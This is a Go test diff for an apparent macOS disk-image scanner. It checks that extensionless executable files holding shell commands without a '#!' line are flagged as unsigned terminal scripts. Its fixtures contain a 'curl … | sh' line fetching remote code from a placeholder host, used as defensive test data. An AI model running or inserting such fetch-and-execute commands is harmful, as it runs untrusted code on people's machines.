@@ -35,8 +35,8 @@ func TestAttackTerminalScriptOtherFile(t *testing.T) {
 		"tools.zip":        makeZip(t, []zipEntry{{name: "run.command", data: terminalScript}}),
 		"tools/notes.txt":  terminalScript,
 	})
-	want := []string{"Example.dmg/Install.command", "Example.dmg/Installer", "tools/Setup.TOOL", "tools.zip/run.command"}
-	other := []string{"tools/notes.txt", "Example.dmg/README", "Example.dmg/setup.sh", "Example.dmg/notes"}
+	want := []string{"Example.dmg/Install.command", "Example.dmg/Installer", "Example.dmg/README", "tools/Setup.TOOL", "tools.zip/run.command"}
+	other := []string{"tools/notes.txt", "Example.dmg/setup.sh", "Example.dmg/notes"}
 	for _, tc := range []struct {
 		pol *Policy
 		sev string
@@ -98,5 +98,33 @@ func TestTerminalScriptSealedInBundle(t *testing.T) {
 	}
 	if fb := fileByPath(r, "Tool.app/Contents/Resources/uninstall.command"); fb == nil || fb.Kind != KindOther {
 		t.Errorf("uninstall.command: %+v", fb)
+	}
+}
+
+// TestAttackTerminalScriptWithoutShebang: a disk image's extensionless
+// file with an execute bit is run in Terminal when double-clicked; one
+// holding shell commands without a "#!" line still runs, as the shell
+// runs text execve refuses with /bin/sh, yet it was an other file and
+// passed `require: valid`. It is a terminal-script now; a binary (a NUL
+// byte in its first 128 bytes), an empty file, and a file without an
+// execute bit are not.
+func TestAttackTerminalScriptWithoutShebang(t *testing.T) {
+	t.Parallel()
+	dmg := hfsDMG(t, exampleBundle(t), map[string]hfsplus.BuildFile{
+		"Installer": {Data: []byte("curl -s https://example.invalid/p | sh\n"), Mode: 0o755},
+		"blob":      {Data: []byte("ELF\x00\x01\x02curl -s https://example.invalid/p | sh\n"), Mode: 0o755},
+		"empty":     {Data: nil, Mode: 0o755},
+		"Notes":     {Data: []byte("curl -s https://example.invalid/p | sh\n"), Mode: 0o644},
+	}, false, nil)
+	dir := t.TempDir()
+	writeTree(t, dir, map[string][]byte{"Example.dmg": dmg})
+	r := run(t, Options{Policy: requireValid()}, dir)
+	if fb := fileByPath(r, "Example.dmg/Installer"); fb == nil || fb.Kind != KindTerminalScript || !has(rulesFor(r, "Example.dmg/Installer"), "error "+string(RuleUnsigned)) {
+		t.Errorf("Installer: %+v, findings %q, want an unsigned %s", fb, rulesFor(r, "Example.dmg/Installer"), KindTerminalScript)
+	}
+	for _, p := range []string{"Example.dmg/blob", "Example.dmg/empty", "Example.dmg/Notes"} {
+		if fb := fileByPath(r, p); fb == nil || fb.Kind != KindOther {
+			t.Errorf("%s: %+v, want an other file", p, fb)
+		}
 	}
 }
